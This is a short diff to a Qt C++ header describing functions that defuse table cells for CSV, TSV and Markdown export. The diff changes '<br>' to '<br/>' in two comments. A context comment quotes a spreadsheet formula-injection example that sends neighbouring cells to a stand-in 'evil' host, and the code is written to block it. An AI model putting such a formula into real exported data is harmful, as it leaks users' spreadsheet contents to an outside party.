@@ -13,7 +13,7 @@
 //   return is prefixed with ' (Excel and LibreOffice then show it as text:
 //   =HYPERLINK("https://evil/?"&B2,"x") cannot send neighbouring cells away);
 // - Markdown: every character Markdown (GFM) or the HTML it allows would
-//   interpret is backslash-escaped and line breaks become <br>, so a name
+//   interpret is backslash-escaped and line breaks become <br/>, so a name
 //   cannot become a link, an image, a tracking pixel, a mention or a new row.
 //
 // Values are otherwise exported as received (IDs byte for byte).
@@ -27,7 +27,7 @@ QString defused(const QString &cell);
 QString csvField(const QString &cell);
 // One TSV field: defused, then tabs and line breaks as spaces.
 QString tsvField(const QString &cell);
-// One Markdown table cell: escaped, line breaks as <br>, trimmed.
+// One Markdown table cell: escaped, line breaks as <br/>, trimmed.
 QString markdownCell(const QString &cell);
 
 // Whole documents; rows.first() is the header.
